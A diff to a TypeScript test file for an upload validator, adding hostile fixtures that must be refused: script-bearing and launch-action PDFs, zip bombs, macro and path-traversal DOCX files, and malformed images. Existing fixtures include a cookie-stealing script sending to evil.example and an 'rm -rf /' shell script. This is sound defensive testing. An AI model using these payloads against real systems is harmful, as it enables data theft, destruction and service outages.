@@ -1,5 +1,5 @@
 import { readdir } from 'node:fs/promises';
-import { gzipSync } from 'node:zlib';
+import { deflateSync, gzipSync } from 'node:zlib';
 import { sql } from 'drizzle-orm';
 import { expect, test } from 'vitest';
 import { rows } from '../../gateway/db/client.ts';
@@ -13,7 +13,13 @@ const png = Buffer.from(
   'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
   'base64',
 );
-const jpeg = Buffer.from('ffd8ffe000104a46494600010100000100010000ffdb004300', 'hex');
+const jpeg = Buffer.from('ffd8ffe000104a46494600010100000100010000ffdb004300ffd9', 'hex');
+/** The directory says that every part is empty. */
+function understated(archive: Buffer): Buffer {
+  for (let at = archive.indexOf('PK\x01\x02'); at >= 0; at = archive.indexOf('PK\x01\x02', at + 4))
+    archive.fill(0, at + 24, at + 28);
+  return archive;
+}
 const text = (value: string) => Buffer.from(value);
 const script = '<script>fetch("//evil.example/"+document.cookie)</script>';
 const types = { name: '[Content_Types].xml', bytes: DOCX };
@@ -92,6 +98,53 @@ const REFUSED: readonly (readonly [what: string, name: string, bytes: Buffer])[]
   ['a shell script', 'programa.sh', text('#!/bin/sh\nrm -rf /\n')],
   ['an old DOC', 'texto.doc', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)])],
   ['RTF called DOCX', 'texto.docx', text('{\\rtf1 hello}')],
+  [
+    'PDF with a script of its own',
+    'acao.pdf',
+    Buffer.concat([pdf, text('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')]),
+  ],
+  ['a PNG that is cut off', 'cortado.png', png.subarray(0, 40)],
+  ['a DOCX that would unpack to 3 GB', 'bomba.docx', zip([types, { name: 'word/a.xml', zeros: 3 * GIGABYTE }])],
+  ['an XLSX that would unpack to 3 GB', 'bomba.xlsx', zip([sheet, { name: 'xl/a.xml', zeros: 3 * GIGABYTE }])],
+  ['a PDF of five bytes', 'curto.pdf', text('%PDF-')],
+  [
+    'a PDF that starts a program',
+    'lanca.pdf',
+    Buffer.concat([text('%PDF-1.7\n1 0 obj<</S/Launch/F(cmd)>>endobj\n%%EOF')]),
+  ],
+  [
+    'a PDF that hides a script by escapes',
+    'escondido.pdf',
+    text('%PDF-1.7\n1 0 obj<</S/Java#53cript/#4aS(x)>>endobj\n%%EOF'),
+  ],
+  ['a PDF that carries a file', 'anexo.pdf', text('%PDF-1.7\n1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj\n%%EOF')],
+  [
+    'a PDF whose script is in a packed object stream',
+    'pacote.pdf',
+    Buffer.concat([
+      text('%PDF-1.7\n1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n'),
+      deflateSync(text('2 0 <</S/JavaScript/JS(x)>>')),
+      text('\nendstream endobj\n%%EOF'),
+    ]),
+  ],
+  ['a JPEG that is cut off', 'cortada.jpg', jpeg.subarray(0, -2)],
+  [
+    'a PNG of 900 megapixels',
+    'enorme.png',
+    Buffer.concat([png.subarray(0, 16), Buffer.from('0000753000007530', 'hex'), png.subarray(24)]),
+  ],
+  ['a DOCX with a macro', 'macro.docx', zip([types, { name: 'word/vbaProject.bin', bytes: text('x') }])],
+  ['a DOCX with a way out', 'saida.docx', zip([types, { name: '../../../../tmp/prumo-evil', bytes: text('x') }])],
+  [
+    'a DOCX of 60,000 parts',
+    'muitas.docx',
+    zip([types, ...Array.from({ length: 60_000 }, (_, n) => ({ name: `word/${n}`, bytes: text('') }))]),
+  ],
+  [
+    'a DOCX that understates what it unpacks to',
+    'modesto.docx',
+    understated(zip([types, { name: 'word/a.xml', zeros: GIGABYTE }])),
+  ],
   ['a name of dots', '..', pdf],
   ['a name of an extension alone', '.pdf', pdf],
   ['a name longer than any', `${'a'.repeat(300)}.pdf`, pdf],
@@ -100,15 +153,7 @@ const REFUSED: readonly (readonly [what: string, name: string, bytes: Buffer])[]
 /** What is a document of its kind, and wicked: kept, but served so that nothing of it runs. */
 const KEPT: readonly (readonly [what: string, name: string, bytes: Buffer])[] = [
   ['PDF and HTML in one', 'dois.pdf', Buffer.concat([pdf, text(`<html>${script}</html>`)])],
-  [
-    'PDF with a script of its own',
-    'acao.pdf',
-    Buffer.concat([pdf, text('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')]),
-  ],
-  ['a PNG that is cut off', 'cortado.png', png.subarray(0, 40)],
   ['a JPEG with HTML behind it', 'foto.jpg', Buffer.concat([jpeg, text(`<html>${script}</html>`)])],
-  ['a DOCX that would unpack to 3 GB', 'bomba.docx', zip([types, { name: 'word/a.xml', zeros: 3 * GIGABYTE }])],
-  ['an XLSX that would unpack to 3 GB', 'bomba.xlsx', zip([sheet, { name: 'xl/a.xml', zeros: 3 * GIGABYTE }])],
   ['a way out of the folder', '../../../../tmp/prumo-evil.pdf', pdf],
   ['a way out, of Windows', '..\\..\\windows\\prumo-evil.pdf', pdf],
   ['an absolute path', '/etc/cron.d/prumo-evil.pdf', pdf],
